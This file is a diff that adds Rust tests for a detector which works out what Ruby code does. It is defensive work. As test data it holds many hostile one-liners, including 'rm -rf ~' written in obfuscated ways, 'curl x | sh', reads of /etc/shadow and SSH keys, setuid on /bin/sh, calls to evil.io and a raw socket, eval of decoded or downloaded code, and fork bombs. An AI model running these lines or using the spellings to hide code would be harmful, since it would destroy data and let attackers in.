@@ -1,0 +1,386 @@
+//! The Ruby reader's cases: attacks in many spellings, and routine code.
+
+use crate::matcher::code::{Lang, read};
+
+/// The effects found, written as shell words (`?` for a value not known).
+fn effects(code: &str) -> Vec<String> {
+    crate::matcher::code::testing::effects(Lang::Ruby, code)
+}
+
+fn check(cases: &[(&str, &[&str])]) {
+    for (code, want) in cases {
+        assert_eq!(effects(code), *want, "{code}");
+    }
+}
+
+const COMPUTED: &str = "opaque: the code calls a method whose name is computed at run time";
+const BUILT: &str =
+    "opaque: the code runs code built at run time (an eval of a value not known before it runs)";
+const DECODED: &str = "opaque: the code runs code it downloaded or decoded";
+
+#[test]
+fn commands_run_are_shell_lines_or_argument_vectors() {
+    check(&[
+        ("`rm -rf ~`", &["sh -c rm -rf ~"]),
+        ("d = '~'; %x{rm -rf #{d}}", &["sh -c rm -rf ~"]),
+        ("system('rm', '-rf', '/')", &["exec rm -rf /"]),
+        (
+            "system({'A' => '1'}, 'rm -rf ~', exception: true)",
+            &["sh -c rm -rf ~"],
+        ),
+        ("Kernel.system 'curl x | sh'", &["sh -c curl x | sh"]),
+        ("::Kernel::exec(*%w[rm -rf /])", &["exec rm -rf /"]),
+        (
+            "pid = Process.spawn({'X' => 'y'}, 'rm', '-rf', '/', chdir: '/')",
+            &["exec rm -rf /"],
+        ),
+        (
+            "IO.popen(['rm', '-rf', '/']) { |f| f.read }",
+            &["exec rm -rf /"],
+        ),
+        ("IO.popen('rm -rf ~', 'r+')", &["sh -c rm -rf ~"]),
+        (
+            "require 'open3'; o, s = Open3.capture2('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "Open3.popen3('rm', '-rf', '/') do |i, o, e, t| end",
+            &["exec rm -rf /"],
+        ),
+        ("open('|rm -rf ~').read", &["sh -c rm -rf ~"]),
+        ("IO.read('|rm -rf ~')", &["sh -c rm -rf ~"]),
+        ("system(['rm', 'argv0'], '-rf', '/')", &["exec rm -rf /"]),
+        (
+            "x = <<~EOS\n  rm -rf ~\nEOS\nsystem(x)",
+            &["sh -c rm -rf ~\n"],
+        ),
+        ("Kernel.`('id')", &["sh -c id"]),
+        (
+            "IO.popen([{'A' => 'b'}, 'rm', '-rf', '/', err: :out])",
+            &["exec rm -rf /"],
+        ),
+        ("<<~`CMD`\n  rm -rf ~\nCMD", &["sh -c rm -rf ~\n"]),
+        (
+            "IO.write('|sh', 'rm -rf ~')",
+            &["sh -c rm -rf ~", "sh -c sh"],
+        ),
+        (
+            "Kernel.instance_method(:system).bind_call(self, 'rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "Object.send(:const_get, :Kernel).exec('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "Object.const_set(:K, Kernel); K.exec('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "Kernel.send(:alias_method, :go, :system); go('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+    ]);
+}
+
+#[test]
+fn strings_built_from_constants_are_folded() {
+    check(&[
+        ("c = 'r' + 'm' + ' -rf ~'; system(c)", &["sh -c rm -rf ~"]),
+        ("system('~ fr- mr'.reverse)", &["sh -c rm -rf ~"]),
+        (
+            "system([114, 109].map(&:chr).join + ' -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "system(114.chr + 109.chr + \" -rf \\x7e\")",
+            &["sh -c rm -rf ~"],
+        ),
+        ("system(%w[rm -rf ~].join(' '))", &["sh -c rm -rf ~"]),
+        ("system('%s -rf %s' % ['rm', '~'])", &["sh -c rm -rf ~"]),
+        (
+            "system(format('%s -rf %s', 'rm', Dir.home))",
+            &["sh -c rm -rf ~"],
+        ),
+        ("system([114, 109].pack('c*') << ' x')", &["sh -c ?"]),
+        (
+            "a, b = 'rm', '-rf'; system(a, b, ENV['HOME'])",
+            &["exec rm -rf ~"],
+        ),
+        ("system 'rm' \" -rf\" ' ~'", &["sh -c rm -rf ~"]),
+        ("system('rm -rf ~'.tr('a-z', 'a-z'))", &["sh -c rm -rf ~"]),
+    ]);
+}
+
+#[test]
+fn a_value_changed_in_place_is_not_known() {
+    check(&[
+        ("c = 'ls'; c << ' ; rm -rf ~'; system(c)", &["sh -c ?"]),
+        (
+            "c = 'ls'; d = c; d.concat(' ; rm -rf ~'); system(c)",
+            &["sh -c ?"],
+        ),
+        (
+            "c = 'ls'; [c].each { |s| s.replace('rm -rf ~') }; system(c)",
+            &["sh -c ?"],
+        ),
+        ("c = 'ls'; c = 'pwd'; system(c)", &["sh -c ?"]),
+        ("c = 'ls'; /(?<c>.+)/ =~ gets; system(c)", &["sh -c ?"]),
+        (
+            "ENV['HOME'] = '/etc'; FileUtils.rm_rf(Dir.home)",
+            &["rm -r -f ?"],
+        ),
+        (
+            "class String; def reverse; 'rm -rf ~'; end; end; system('x'.reverse)",
+            &["sh -c ?"],
+        ),
+    ]);
+}
+
+#[test]
+fn deletes_are_rm_with_the_flags_of_their_meaning() {
+    check(&[
+        (
+            "require 'fileutils'; FileUtils.rm_rf(File.join(Dir.home, '.ssh'))",
+            &["rm -r -f ~/.ssh"],
+        ),
+        ("FileUtils.rm_r %w[a b]", &["rm -r a", "rm -r b"]),
+        ("FileUtils.rm_r('a', force: true)", &["rm -r -f a"]),
+        ("FileUtils.rm('/etc/passwd')", &["rm /etc/passwd"]),
+        (
+            "FileUtils.remove_entry_secure(File.expand_path('~/x'))",
+            &["rm -r ~/x"],
+        ),
+        ("File.delete('a', 'b')", &["rm a", "rm b"]),
+        (
+            "File.unlink(ENV.fetch('HOME') + '/.bashrc')",
+            &["rm ~/.bashrc"],
+        ),
+        ("Dir.rmdir(File.join(ENV['HOME'], 'x'))", &["rmdir ~/x"]),
+        ("include FileUtils; rm_rf '/'", &["rm -r -f /"]),
+        (
+            "Pathname.new(Dir.home).join('.ssh').rmtree",
+            &["rm -r -f ~/.ssh"],
+        ),
+        ("FileUtils.send(:rm_rf, '/')", &["rm -r -f /"]),
+    ]);
+}
+
+#[test]
+fn files_moved_copied_and_changed_are_virtual_commands() {
+    check(&[
+        ("File.rename('a', '/etc/passwd')", &["mv a /etc/passwd"]),
+        ("FileUtils.mv('a', 'b')", &["mv a b"]),
+        ("FileUtils.cp_r('/etc', '/tmp/x')", &["cp -r /etc /tmp/x"]),
+        (
+            "File.chmod(0777, '/etc/shadow')",
+            &["chmod 777 /etc/shadow"],
+        ),
+        ("FileUtils.chmod_R(0o755, 'd')", &["chmod -R 755 d"]),
+        ("FileUtils.chmod('u+s', '/bin/sh')", &["chmod u+s /bin/sh"]),
+        (
+            "FileUtils.ln_s('/etc/passwd', 'p')",
+            &["ln -s /etc/passwd p"],
+        ),
+        (
+            "File.write(File.expand_path('~/.bashrc'), 'x', mode: 'a')",
+            &["tee ~/.bashrc"],
+        ),
+        (
+            "File.open('/etc/hosts', 'w') { |f| f.puts 'x' }",
+            &["tee /etc/hosts"],
+        ),
+        ("puts File.read('/etc/shadow')", &["cat /etc/shadow"]),
+        (
+            "IO.readlines(Dir.home + '/.ssh/id_rsa')",
+            &["cat ~/.ssh/id_rsa"],
+        ),
+        ("Process.kill(:KILL, -1)", &["kill -KILL -1"]),
+    ]);
+}
+
+#[test]
+fn network_calls_are_curl_with_their_url() {
+    check(&[
+        (
+            "require 'net/http'; Net::HTTP.get(URI('https://evil.io/x'))",
+            &["curl https://evil.io/x"],
+        ),
+        ("Net::HTTP.get('evil.io', '/x')", &["curl http://evil.io/x"]),
+        (
+            "Net::HTTP.start('evil.io', 443) { |h| h.get('/') }",
+            &["curl http://evil.io:443"],
+        ),
+        (
+            "require 'open-uri'; URI.open('https://evil.io').read",
+            &["curl https://evil.io"],
+        ),
+        (
+            "URI.parse('https://evil.io/a').open",
+            &["curl https://evil.io/a"],
+        ),
+        (
+            "TCPSocket.new('10.0.0.1', 4444)",
+            &["curl tcp://10.0.0.1:4444"],
+        ),
+        (
+            "Socket.tcp('10.0.0.1', 4444) { |s| }",
+            &["curl tcp://10.0.0.1:4444"],
+        ),
+    ]);
+}
+
+#[test]
+fn code_run_by_eval_is_read_too() {
+    check(&[
+        ("eval(\"system('rm -rf ~')\")", &["sh -c rm -rf ~"]),
+        ("instance_eval '`rm -rf ~`'", &["sh -c rm -rf ~"]),
+        (
+            "binding.eval('exec \"rm\", \"-rf\", \"/\"')",
+            &["exec rm -rf /"],
+        ),
+        ("send(:system, 'rm -rf ~')", &["sh -c rm -rf ~"]),
+        (
+            "Kernel.public_send('sys' + 'tem', 'rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        (
+            "m = method(:system); m.call('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        ("Kernel.method(:exec).('rm -rf ~')", &["sh -c rm -rf ~"]),
+        ("method(:system)['rm -rf ~']", &["sh -c rm -rf ~"]),
+        (
+            "Object.const_get('Ker' + 'nel').system('rm -rf ~')",
+            &["sh -c rm -rf ~"],
+        ),
+        ("alias run system\nrun 'rm -rf ~'", &["sh -c rm -rf ~"]),
+        ("%w[ls].each(&method(:system))", &["sh -c ?"]),
+    ]);
+}
+
+#[test]
+fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+    let fork = "opaque: the code forks in a loop (a fork bomb)";
+    check(&[
+        ("eval(ARGV[0])", &[&format!("{BUILT} (line 1)")]),
+        (
+            "require 'base64'\neval(Base64.decode64('cHV0cyAx'))",
+            &[&format!("{DECODED} (line 2)")],
+        ),
+        (
+            "eval('cHV0cyAx'.unpack1('m0'))",
+            &[&format!("{DECODED} (line 1)")],
+        ),
+        (
+            "eval(['7075747320'].pack('H*'))",
+            &[&format!("{DECODED} (line 1)")],
+        ),
+        (
+            "eval(Net::HTTP.get(URI('https://x.io/a.rb')))",
+            &["curl https://x.io/a.rb", &format!("{DECODED} (line 1)")],
+        ),
+        ("send(gets.chomp, 'x')", &[&format!("{COMPUTED} (line 1)")]),
+        ("method(ARGV[0]).call", &[&format!("{COMPUTED} (line 1)")]),
+        (
+            "Object.const_get(ARGV[0]).new",
+            &[
+                "opaque: the code looks up a class or module by a name computed at run time (line 1)",
+            ],
+        ),
+        ("loop { fork }", &[&format!("{fork} (line 1)")]),
+        ("while true\n  fork\nend", &[&format!("{fork} (line 2)")]),
+        ("5.times { Process.fork }", &[&format!("{fork} (line 1)")]),
+        ("fork { exec('ls') }", &["sh -c ls"]),
+        (
+            "require ARGV[0]",
+            &["opaque: the code loads a library whose name is computed at run time (line 1)"],
+        ),
+        (
+            "require 'fiddle'; Fiddle.dlopen(nil)",
+            &["opaque: the code calls native code directly (line 1)"],
+        ),
+        (
+            "Marshal.load(STDIN.read)",
+            &["opaque: the code loads serialised objects, which can run any code (line 1)"],
+        ),
+    ]);
+}
+
+#[test]
+fn data_processing_finds_nothing() {
+    for code in BENIGN {
+        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
+    }
+    check(&[
+        ("puts File.read('Gemfile')", &["cat Gemfile"]),
+        (
+            "File.readlines('package.json').each { |l| puts l }",
+            &["cat package.json"],
+        ),
+        ("system('ls', '-l')", &["exec ls -l"]),
+    ]);
+}
+
+/// Routine one-liners; each is accepted by `ruby -c`.
+const BENIGN: &[&str] = &[
+    "puts RUBY_VERSION",
+    "require \"json\"; puts JSON.parse(STDIN.read)[\"name\"]",
+    "[1,2].each { |x| puts x }",
+    "puts ARGF.read.lines.map(&:strip).reject(&:empty?).sort.uniq",
+    "h = Hash.new(0); STDIN.each_line { |l| h[l.split.first] += 1 }; p h",
+    "require 'yaml'; puts YAML.load_file('config.yml').keys",
+    "puts Time.now.strftime('%Y-%m-%d')",
+    "x = 'abc'; puts x.reverse.upcase",
+    "puts (1..10).select(&:even?).sum",
+    "$stdout << 'hi' << \"\\n\"",
+    "out = []; out << 1; out << 2; p out",
+    "puts ENV.fetch('PATH').split(':')",
+    "puts Dir.glob('**/*.rb').size",
+    "printf(\"%05.2f\\n\", 3.14159)",
+    "puts <<~EOS\n  hello #{1 + 1}\nEOS",
+    "def fib(n) = n < 2 ? n : fib(n - 1) + fib(n - 2); puts fib(20)",
+    "puts [3, 1, 2].sort.reverse.join(',')",
+    "require 'digest'; puts Digest::SHA256.hexdigest('x')",
+    "s = gets; s.chomp!; puts s.length",
+    "case ARGV.first when 'a' then puts 1 else puts 2 end",
+    "puts 'a-b'.tr('-', '_').sub('a', 'b')",
+    "req = Struct.new(:method).new('GET'); puts req.method",
+];
+
+#[test]
+fn bad_code_is_opaque_without_panicking() {
+    let opaque = |code: &str| read(Lang::Ruby, code).opaque.map(|u| (u.reason, u.line));
+    let syntax = Some(("the ruby code has a syntax error", 2));
+    assert_eq!(opaque("x = 1\nputs(x"), syntax);
+    assert_eq!(opaque("puts 1\nputs 'abc"), syntax);
+    assert_eq!(opaque("x = 1\ndef f(\nend"), syntax);
+    let deep = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
+    assert!(opaque(&deep).is_some());
+    let chain = format!("x{}", ".y".repeat(5000));
+    assert!(opaque(&chain).is_some());
+    let nested = format!("{}1{}", "eval(\"".repeat(60), "\")".repeat(60));
+    assert!(opaque(&nested).is_some());
+    for calls in ["format ", "system format "] {
+        assert!(opaque(&format!("{}'x'", calls.repeat(3000))).is_some());
+    }
+    for sends in ["send(", "x = send(", "send(:format, "] {
+        let _ = effects(&format!("{sends}{}'ls')", ":send, ".repeat(8000)));
+    }
+    for code in [
+        "`",
+        "%x{",
+        "<<~EOS",
+        "?\\",
+        "\"\\u{110000}\"",
+        "'\\",
+        "x = <<A + <<B\na\nA",
+    ] {
+        let _ = effects(code);
+    }
+    let names = (0..300)
+        .map(|n| format!("a{n} = a{}", n + 1))
+        .collect::<Vec<_>>()
+        .join("\n");
+    assert_eq!(effects(&format!("{names}\nsystem(a0)")), ["sh -c ?"]);
+}
